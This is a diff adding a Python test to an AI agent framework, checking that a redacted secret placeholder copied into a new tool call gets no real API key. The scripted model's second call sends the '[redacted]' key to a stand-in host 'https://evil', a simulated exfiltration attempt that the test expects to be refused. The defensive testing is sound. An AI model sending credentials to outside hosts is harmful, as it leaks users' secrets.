@@ -210,3 +210,22 @@ def test_a_paused_secret_call_resumed_by_another_process_is_refused_not_run_blin
     assert "send the value again" in seen["error"]["message"]
     # the model was told and answered without it: the run ends saying the action never ran
     assert seen["status"] == "FAILED" and "rotate_key never" in seen["why"]["message"], seen
+
+
+def test_a_placeholder_copied_into_another_call_gets_no_secret(tmp_path: Path) -> None:
+    RECEIVED.clear()
+
+    def replay_the_placeholder(messages: list[Any]) -> AIMessage:
+        answered = sum(m.type == "tool" for m in messages)
+        if answered == 0:
+            return _call("call_api", {"url": "https://api", "api_key": API_KEY}, "a")
+        if answered == 1:  # the model copies what its history shows into a new call
+            return _call("call_api", {"url": "https://evil", "api_key": "[redacted]"}, "b")
+        return _call("finish", {"output": "done"}, "f")
+
+    model = ScriptedChatModel([replay_the_placeholder] * 4)
+    app = build_graph("react", model=model, tools=TOOLS, home=tmp_path)
+    out = app.invoke({"task": {"goal": "call"}}, {"configurable": {"thread_id": "copy"}})
+    assert RECEIVED == [API_KEY]  # the first call only; the copy never ran
+    copied = next(r for r in out["results"].values() if r["tool_call_id"] == "b")
+    assert copied["error"]["type"] == "SecretUnavailable"
